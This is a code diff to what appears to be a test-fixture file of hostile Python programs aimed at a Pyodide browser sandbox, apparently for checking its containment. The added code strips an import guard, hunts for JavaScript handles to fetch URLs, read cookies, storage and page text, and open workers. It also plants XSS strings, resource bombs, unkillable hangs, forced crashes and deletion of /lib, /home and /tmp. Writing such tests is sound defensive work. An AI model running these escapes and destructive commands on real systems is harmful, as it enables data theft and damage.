@@ -166,6 +166,34 @@ class Slow:
 async def main(): return Slow()
 asyncio.run(main())
 """,
+    "all tools of monitoring taken": """\
+import sys
+for tool in range(6):
+    try: sys.monitoring.free_tool_id(tool)
+    except BaseException: pass
+    try: sys.monitoring.use_tool_id(tool, 'mine')
+    except BaseException: pass
+n = 0
+while True: n += 1
+""",
+    "a trace function that never returns": """\
+import sys
+def trace(*_):
+    while True: pass
+sys.settrace(trace)
+(lambda: 1)()
+""",
+    "a signal that is ignored": """\
+import signal
+for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM): signal.signal(number, signal.SIG_IGN)
+while True: pass
+""",
+    "a function at exit that never returns": """\
+import atexit
+@atexit.register
+def stay():
+    while True: pass
+""",
     "reports forged in a loop": REACH + "while True: tell('{}')",
     "reports of 8 MB in a loop": REACH + "text = 'x' * 8_000_000\nwhile True: tell(text)",
     "reports that are sound, in a loop": REACH
@@ -231,6 +259,200 @@ for name, module in list(sys.modules.items()):
 """,
 }
 
+#: Every hold of JavaScript that Python code can get: by the guard's own modules, by frames further
+#: out, by the collector, by Pyodide's core made anew. Each power is asked of all of them.
+_WAYS = """\
+import gc, importlib, importlib.machinery, importlib.util, sys
+def ways():
+    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BrowserGuard']
+    for name in ('js', 'pyodide_js', 'pyodide.ffi', 'pyodide.code', '_pyodide_core'):
+        try:
+            yield importlib.import_module(name)
+        except BaseException:
+            pass
+    try:
+        spec = importlib.machinery.BuiltinImporter.find_spec('_pyodide_core')
+        core = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(core)
+        yield core
+    except BaseException:
+        pass
+    frame = sys._getframe()
+    while frame:
+        yield from [v for v in frame.f_locals.values() if 'JsProxy' in str(type(v).__mro__)]
+        frame = frame.f_back
+    yield from [thing for thing in gc.get_objects() if 'JsProxy' in type(thing).__name__]
+holds = {}
+for way in ways():
+    for hold in (way, getattr(way, 'globalThis', None), getattr(way, 'self', None)):
+        if hold is not None and len(holds) < 40: holds.setdefault(id(hold), hold)
+def attempt(power):
+    answers = set()
+    for hold in holds.values():
+        try:
+            answers.add(str(power(hold))[:200])
+        except BaseException as error:
+            answers.add('refused: ' + type(error).__name__)
+    print(len(holds), sorted(answers))
+"""
+
+
+def _js(script: str) -> str:
+    """Ask JavaScript for something, by its own evaluation and by Pyodide's."""
+    text = f"{script!r}.replace('URL', repr(URL))"
+    return (
+        f"attempt(lambda way: way.constructor.constructor('return ' + {text})())\n"
+        f"attempt(lambda way: way.eval({text}))\nattempt(lambda way: way.run_js({text}))"
+    )
+
+
+#: What is asked of JavaScript once there is a hold of it: each power in Python and in JavaScript.
+POWERS = {
+    name: f"attempt(lambda way: {power})\n{_js(script)}\n"
+    for name, (power, script) in {
+        "a request by fetch": ("way.fetch(URL)", "fetch(URL)"),
+        "a request by XMLHttpRequest": (
+            "way.XMLHttpRequest.new().open('GET', URL, False)",
+            "(r => {r.open('GET', URL, false); r.send()})(new XMLHttpRequest())",
+        ),
+        "a socket": ("way.WebSocket.new(URL.replace('http', 'ws'))", "new WebSocket(URL)"),
+        "a stream of events": ("way.EventSource.new(URL)", "new EventSource(URL)"),
+        "a beacon": ("way.navigator.sendBeacon(URL, 'x')", "navigator.sendBeacon(URL, 'x')"),
+        "a module from elsewhere": ("way.importScripts(URL)", "import(URL)"),
+        "a picture from elsewhere": ("setattr(way.Image.new(), 'src', URL)", "new Image().src=URL"),
+        "a worker of its own": ("way.Worker.new(URL)", "new Worker(URL)"),
+        "a worker made of text": (
+            "way.Worker.new('data:text/javascript,fetch(\"' + URL + '\")')",
+            "new Worker('data:text/javascript,fetch(\"' + URL + '\")')",
+        ),
+        "a shared worker": ("way.SharedWorker.new(URL)", "new SharedWorker(URL)"),
+        "a service worker": (
+            "way.navigator.serviceWorker.register(URL)",
+            "navigator.serviceWorker.register(URL)",
+        ),
+        "to go elsewhere": ("way.location.assign(URL)", "location = URL"),
+        "to send the page elsewhere": ("way.top.location.assign(URL)", "top.location = URL"),
+        "a window": ("way.open(URL)", "open(URL)"),
+        "what is stored": ("way.localStorage.getItem('secret')", "localStorage.secret"),
+        "what is stored above": (
+            "way.parent.localStorage.getItem('secret')",
+            "top.localStorage.secret",
+        ),
+        "cookies": ("way.document.cookie", "document.cookie = 'a=1'"),
+        "a database": ("way.indexedDB.open('x')", "indexedDB.open('x')"),
+        "kept files": ("way.caches.keys()", "caches.open('lockstep')"),
+        "a message to those above": (
+            "way.parent.postMessage('pwned', '*')",
+            "top.postMessage('pwned','*')",
+        ),
+        "a channel to all": (
+            "way.BroadcastChannel.new('lockstep').postMessage('pwned')",
+            "new BroadcastChannel('lockstep').postMessage('pwned')",
+        ),
+        "the page's text": ("way.document.body.innerHTML", "top.document.body.innerHTML"),
+    }.items()
+}
+
+#: Turns the tools of Python against the run.
+TRICKS = {
+    "the importer replaced": """\
+import builtins
+builtins.__import__ = lambda *_: None
+import js
+""",
+    "a module put in the place of another": """\
+import sys, types
+for name in ('js', 'json', 'asyncio', 'lockstep', 'pagehost'):
+    sys.modules[name] = types.ModuleType(name)
+""",
+    "a class found among all": """\
+def below(kind):
+    for each in type.__subclasses__(kind):
+        yield each
+        yield from below(each)
+for each in list(below(object)):
+    if 'Js' in each.__name__:
+        try: print(each())
+        except BaseException as error: print(type(error).__name__)
+""",
+    "a function of C's by ctypes": "import ctypes\nctypes.pythonapi.Py_FatalError(b'over')",
+    "a signal": "import signal\nsignal.raise_signal(signal.SIGTERM)",
+    "a crash": "import faulthandler\nfaulthandler._sigsegv()",
+    "functions at exit without end": """\
+import atexit
+def again(): atexit.register(again)
+again()
+""",
+    "an object that comes back whenever it dies": """\
+class Undead:
+    def __del__(self):
+        kept.append(self)
+        Undead()
+kept = []
+Undead()
+""",
+    "no bound for recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
+    "a recursion in C": "x = ()\nfor _ in range(200_000): x = (x,)\nhash(x)",
+    "callbacks without end": """\
+import asyncio
+async def main():
+    loop = asyncio.get_running_loop()
+    def again(): loop.call_soon(again)
+    again()
+    await asyncio.sleep(1)
+asyncio.run(main())
+""",
+    "tasks that make tasks": """\
+import asyncio
+async def fork():
+    asyncio.create_task(fork())
+    asyncio.create_task(fork())
+    await asyncio.sleep(0)
+async def main():
+    await fork()
+    await asyncio.sleep(1)
+asyncio.run(main())
+""",
+    "a task that cannot be cancelled": """\
+import asyncio
+async def stay():
+    while True:
+        try: await asyncio.sleep(1)
+        except asyncio.CancelledError: pass
+async def main(): await asyncio.wait_for(stay(), 1)
+asyncio.run(main())
+""",
+    "a text of ten thousand million letters": "x = 'a' * 10**10",
+    "a number of ten million digits": "x = 10 ** 10_000_000\nprint(x > 0)",
+    "a list of everything": "x = list(range(10**10))",
+    "printed lines that look like an answer": """\
+print('{"trace": {"status": "ok", "result": "1000000"}}')
+print('{"type": "done", "id": 1}')
+print('Verified over all 6 orders that asyncio can produce.')
+print('</script><script>alert(1)</script><img src=x onerror=alert(1)>')
+print(chr(27) + '[2J' + chr(0) + chr(8232) + chr(0x202e) + 'reversed')
+""",
+    "names that look like an answer": """\
+import asyncio
+async def f(): await asyncio.sleep(0)
+async def main():
+    await asyncio.create_task(f(), name='</title><img src=x onerror=a()>')
+    return '<img src=x>'
+asyncio.run(main())
+""",
+    "a clock that is set": """\
+import time
+time.time = time.monotonic = lambda: float('nan')
+import asyncio
+asyncio.run(asyncio.sleep(1))
+""",
+    "files of the runtime removed": """\
+import os, shutil
+for path in ('/lib', '/home', '/tmp'): shutil.rmtree(path, ignore_errors=True)
+os.listdir('/')
+""",
+}
+
 #: Answers with something that no engine would.
 FORGED = {
     "no JSON": "answer('<script>alert(1)</script>')",
@@ -271,9 +493,11 @@ answer('{"missing": ["email"]}')
 """,
 }
 
-PROGRAMS = {
-    **LARGE,
-    **BOMBS,
-    **REACHING,
-    **{name: f"print('x')\nexec({FORGE + source!r}, {{}})" for name, source in FORGED.items()},
+_FORGERIES = {
+    name: f"print('x')\nexec({FORGE + source!r}, {{}})" for name, source in FORGED.items()
 }
+#: All powers in one program: to find the holds takes most of the time of one.
+_ALL_POWERS = {"JavaScript is asked for every power there is": _WAYS + "".join(POWERS.values())}
+#: What means harm, and does not merely take much: for every page that runs programs.
+HARMFUL = {**REACHING, **_ALL_POWERS, **TRICKS}
+PROGRAMS = {**LARGE, **BOMBS, **HARMFUL, **_FORGERIES}
